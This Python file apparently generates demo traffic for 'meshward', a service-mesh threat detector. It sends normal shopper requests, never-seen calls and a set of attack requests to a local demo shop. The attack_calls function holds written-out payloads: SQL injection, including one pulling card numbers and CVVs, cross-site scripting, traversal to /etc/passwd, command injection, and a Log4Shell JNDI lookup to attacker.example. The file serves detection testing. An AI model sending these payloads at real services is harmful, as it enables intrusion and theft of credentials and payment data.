"""The demo's traffic: normal shoppers, attacks, and calls the shop never made while learning.

HTTP calls enter through the ingress gateway's sidecar (as from the internet); gRPC calls are
made through a shop workload's own outbound sidecar (as that workload would). Every call carries
its own x-request-id, so meshward's alerts can be matched to the call that raised them.
"""

from __future__ import annotations

import asyncio
import json
import random
import uuid
from dataclasses import dataclass
from typing import Any

import aiohttp
import grpc

from meshward.app.demo.shop import CATEGORIES, PAYMENTS_SERVICE, service_host, struct

CUSTOMERS = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy")
SEARCH_WORDS = ("item", "books", "games", "music", "garden", "kitchen", "toys", "1", "2", "3")


@dataclass
class Call:
    """One request the demo sends, and what should become of it."""

    label: str
    kind: str  # normal | attack | novel
    target: str  # the service whose sidecar should decide
    method: str = "GET"
    path: str = "/"
    body: Any = None
    via: str = "ingress"  # the sidecar it leaves through: ingress, or "caller->callee" (gRPC)
    expect_threat: str = ""  # for attacks: the threat meshward should name
    request_id: str = ""

    def __post_init__(self) -> None:
        self.request_id = self.request_id or str(uuid.uuid4())


@dataclass
class Result:
    call: Call
    status: int  # HTTP status; gRPC: 200 for OK, 403 for PERMISSION_DENIED, 599 otherwise
    reason: str = ""  # the error (a denial's reasons are in its alert, not the answer)
    detail: str = ""


def normal_calls(rng: random.Random, count: int) -> list[Call]:
    """What shoppers do, in realistic proportions; values vary the way real ones do."""
    calls: list[Call] = []
    for _ in range(count):
        pick = rng.random()
        if pick < 0.05:
            calls.append(Call("home page", "normal", "web", path="/"))
        elif pick < 0.30:
            category, page = rng.choice(CATEGORIES), rng.randint(1, 3)
            calls.append(
                Call(
                    "browse", "normal", "web", path=f"/api/products?category={category}&page={page}"
                )
            )
        elif pick < 0.55:
            calls.append(
                Call("product", "normal", "web", path=f"/api/products/{rng.randint(1, 60)}")
            )
        elif pick < 0.70:
            calls.append(
                Call("search", "normal", "web", path=f"/api/search?q={rng.choice(SEARCH_WORDS)}")
            )
        else:
            body = {
                "product_id": rng.randint(1, 60),
                "quantity": rng.randint(1, 3),
                "customer": rng.choice(CUSTOMERS),
            }
            calls.append(Call("checkout", "normal", "web", "POST", "/api/checkout", body))
    return calls


def attack_calls() -> list[Call]:
    """Embedded attacks against the shop's front, each in a place it learned normal values."""
    return [
        Call(
            "SQL injection in a query",
            "attack",
            "web",
            path="/api/search?q=%27%20OR%20%271%27%3D%271%27%20--",
            expect_threat="SQL.Injection",
        ),
        Call(
            "SQL injection in a JSON body",
            "attack",
            "web",
            "POST",
            "/api/checkout",
            {
                "product_id": 3,
                "quantity": 1,
                "customer": "x' UNION SELECT card_number, cvv FROM cards--",
            },
            expect_threat="SQL.Injection",
        ),
        Call(
            "cross-site scripting",
            "attack",
            "web",
            path="/api/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            expect_threat="Cross.Site.Scripting",
        ),
        Call(
            "path traversal",
            "attack",
            "web",
            path="/api/products?category=..%2F..%2F..%2F..%2Fetc%2Fpasswd&page=1",
            expect_threat="Path.Traversal",
        ),
        Call(
            "command injection",
            "attack",
            "web",
            "POST",
            "/api/checkout",
            {"product_id": 5, "quantity": 1, "customer": "alice; cat /etc/passwd"},
            expect_threat="Command.Injection",
        ),
        Call(
            "JNDI lookup (Log4Shell)",
            "attack",
            "web",
            path="/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
            expect_threat="JNDI.Injection",
        ),
    ]


def novel_calls() -> list[Call]:
    """Calls that are harmless-looking but were never part of normal traffic."""
    return [
        Call("unknown endpoint", "novel", "web", path="/api/admin/export"),
        Call("wrong method", "novel", "web", "DELETE", "/api/products/7"),
        Call(
            "unknown caller (catalog -> payments)",
            "novel",
            "payments",
            "POST",
            f"/{PAYMENTS_SERVICE}/Charge",
            {"amount_cents": 100, "currency": "EUR", "customer": "mallory"},
            via="catalog->payments",
        ),
        Call(
            "new gRPC method (orders -> payments Refund)",
            "novel",
            "payments",
            "POST",
            f"/{PAYMENTS_SERVICE}/Refund",
            {"receipt": "r-1"},
            via="orders->payments",
        ),
    ]


class Driver:
    """Sends Calls through the mesh; `ports` maps a sidecar name ("ingress->web", ...) to port."""

    def __init__(self, ports: dict[str, int], concurrency: int = 8) -> None:
        self.ports = ports
        self.concurrency = concurrency
        self.http: aiohttp.ClientSession | None = None
        self.channels: dict[str, grpc.aio.Channel] = {}

    async def __aenter__(self) -> Driver:
        self.http = aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=15))
        return self

    async def __aexit__(self, *exc: object) -> None:
        if self.http is not None:
            await self.http.close()
        for channel in self.channels.values():
            await channel.close()

    async def send(self, call: Call) -> Result:
        try:
            if call.via == "ingress":
                return await self._http(call)
            return await self._grpc(call)
        except (TimeoutError, aiohttp.ClientError, OSError) as exc:
            return Result(call, 599, "", f"{type(exc).__name__}: {exc}")

    async def _http(self, call: Call) -> Result:
        assert self.http is not None
        url = f"http://127.0.0.1:{self.ports['ingress->web']}{call.path}"
        headers = {"x-request-id": call.request_id, "host": "shop.example.com"}
        data = None if call.body is None else json.dumps(call.body)
        if data is not None:
            headers["content-type"] = "application/json"
        async with self.http.request(call.method, url, data=data, headers=headers) as resp:
            text = await resp.text(errors="replace")
            return Result(call, resp.status, "", text[:200])  # why it was denied: the alert

    async def _grpc(self, call: Call) -> Result:
        channel = self.channels.get(call.via)
        if channel is None:
            channel = grpc.aio.insecure_channel(
                f"127.0.0.1:{self.ports[call.via]}",
                options=(("grpc.default_authority", service_host(call.target)),),
            )
            self.channels[call.via] = channel
        from google.protobuf import struct_pb2

        method = channel.unary_unary(
            call.path,
            request_serializer=struct_pb2.Struct.SerializeToString,
            response_deserializer=struct_pb2.Struct.FromString,
        )
        try:
            await method(
                struct(call.body or {}), metadata=(("x-request-id", call.request_id),), timeout=10
            )
        except grpc.aio.AioRpcError as err:
            status = 403 if err.code() == grpc.StatusCode.PERMISSION_DENIED else 599
            return Result(call, status, "", f"{err.code().name}: {err.details()}")
        return Result(call, 200)

    async def run(self, calls: list[Call], on_done: Any = None) -> list[Result]:
        """Send `calls` with bounded concurrency, in order of submission; results in order."""
        sem = asyncio.Semaphore(self.concurrency)

        async def one(call: Call) -> Result:
            async with sem:
                result = await self.send(call)
            if on_done is not None:
                on_done(result)
            return result

        return list(await asyncio.gather(*(one(c) for c in calls)))
